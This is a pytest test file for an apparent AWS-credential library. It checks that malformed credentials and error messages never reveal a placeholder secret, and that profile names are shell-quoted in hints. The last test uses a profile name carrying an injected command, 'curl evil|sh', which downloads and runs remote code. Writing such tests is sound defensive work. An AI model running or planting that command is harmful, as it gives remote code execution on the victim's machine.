from __future__ import annotations

import traceback

import pytest
from botocore import exceptions
from botocore.credentials import Credentials
from botocore.parsers import ResponseParserError

from assumed.credential_sources.botocore_adapter import CachedCredentials
from assumed.credential_sources.errors import translate_source_error
from assumed.errors import SourceMissingError, SourceUnavailableError
from assumed.sts.errors import translate_error
from assumed.sts.response_limits import ResponseLimitError
from tests.fakes import role

SECRET = "sEcReT/0" * 8
MALFORMED = [f"{SECRET}\n", f"{SECRET[:76]}\n{SECRET}", f" {SECRET}", f"{SECRET}é", f"{SECRET}\x00"]


@pytest.mark.parametrize("value", MALFORMED)
@pytest.mark.parametrize("position", [0, 1, 2])
def test_malformed_credentials_are_rejected_without_showing_them(value: str, position: int) -> None:
    values = ["ASIAEXAMPLE", "a-secret", "a-token"]
    values[position] = value
    loads: list[Credentials] = [Credentials(*values), Credentials("ASIANEXT", "next", "token")]
    cached = CachedCredentials("source profile jq", lambda: loads.pop(0))
    with pytest.raises(SourceUnavailableError) as raised:
        cached.get()
    what = ("access key id", "secret access key", "session token")[position]
    assert raised.value.message.startswith(f"source profile jq: the {what} is malformed: ")
    assert SECRET not in "".join(traceback.format_exception(raised.value)) + raised.value.hint
    found = cached.get()
    assert found is not None
    assert found.access_key_id == "ASIANEXT", "they are resolved again"


QUOTING = [
    exceptions.HTTPClientError(error=ValueError(f"Invalid header value b'{SECRET}'")),
    exceptions.HTTPClientError(error=exceptions.InvalidRegionError(region_name=SECRET)),
    exceptions.ConnectionError(error=OSError(f"reply: {SECRET}")),
    exceptions.CredentialRetrievalError(
        provider="custom-process",
        error_msg=f"Unsupported version '{SECRET}' for credential process",
    ),
    exceptions.CredentialRetrievalError(
        provider="container-role",
        error_msg=f"Error retrieving metadata: Received non 200 response 500: {SECRET}",
    ),
    ResponseParserError(f"Unable to parse response, invalid XML received:\n{SECRET}"),
    ValueError(f"Unknown string format: {SECRET}"),
    KeyError(SECRET),
    exceptions.ClientError({"Error": {"Code": SECRET, "Message": f"SessionToken={SECRET}"}}, "Get"),
    exceptions.SSOTokenLoadError(error_msg=f"accessToken: {SECRET}"),
]


@pytest.mark.parametrize("error", QUOTING, ids=lambda error: type(error).__name__)
def test_no_error_repeats_a_header_a_body_or_the_output_of_a_process(error: Exception) -> None:
    for translated in (translate_source_error("p", error), translate_error(role("deploy"), error)):
        assert SECRET[:16] not in translated.message + translated.hint + translated.code
        assert translated.message.isprintable()


def test_a_response_over_the_limits_is_reported_with_its_reason() -> None:
    error = exceptions.HTTPClientError(
        error=ResponseLimitError("the response is larger than 1 MiB")
    )
    assert "larger than 1 MiB" in translate_source_error("p", error).message
    translated = translate_error(role("deploy"), error)
    assert (translated.code, translated.message) == (
        "ResponseLimit",
        "the response is larger than 1 MiB",
    )


@pytest.mark.parametrize(
    "error", [exceptions.ProfileNotFound(profile="x"), exceptions.NoCredentialsError()]
)
def test_a_hint_quotes_the_name_of_a_profile_for_the_shell(error: Exception) -> None:
    translated = translate_source_error("x; curl evil|sh #", error)
    assert isinstance(translated, SourceMissingError | SourceUnavailableError)
    assert "--profile 'x; curl evil|sh #'`" in translated.hint
